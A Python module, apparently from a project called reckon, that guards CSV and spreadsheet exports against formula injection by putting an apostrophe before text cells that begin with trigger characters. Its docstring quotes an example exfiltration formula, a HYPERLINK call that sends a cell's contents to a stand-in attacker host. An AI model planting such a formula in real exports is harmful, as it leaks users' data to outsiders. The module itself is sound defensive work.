"""Spreadsheet-safe cells: a CSV or XLSX cell that a spreadsheet would run as a formula is neutralised.

A list may hold ``=HYPERLINK("http://attacker/?"&A2, "click")`` in a name field; exported and opened in
Excel or LibreOffice it would run, or leak the row. OWASP's rule: a text cell starting with ``=``, ``+``,
``-``, ``@``, tab or carriage return gets a leading apostrophe, which spreadsheets show as text and hide.
Numbers are left alone (they are not text, so ``-5`` stays a number). Every CSV/XLSX writer of reckon
passes its cells through :func:`safe_cell` (or writes with :func:`writer`).
"""

from __future__ import annotations

import csv
import json
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with a leading apostrophe if it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, handle: Any, **kwargs: Any) -> None:
        self._w = csv.writer(handle, **kwargs)

    def writerow(self, row: Any) -> Any:
        return self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Any) -> None:
        for row in rows:
            self.writerow(row)


def text(value: Any) -> str:
    """A value as one cell's text: lists joined with " | ", dicts as JSON, None as empty."""
    if value is None:
        return ""
    if isinstance(value, list | tuple):
        return " | ".join(str(v) for v in value)
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False, default=str)
    return str(value)


def csv_cell(value: Any) -> Any:
    """A CSV cell: text as :func:`text` makes it, neutralised for spreadsheets; numbers stay numbers."""
    if isinstance(value, bool) or value is None or not isinstance(value, int | float):
        return safe_cell(text(value))
    return value


def writer(handle: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(handle, **kwargs)
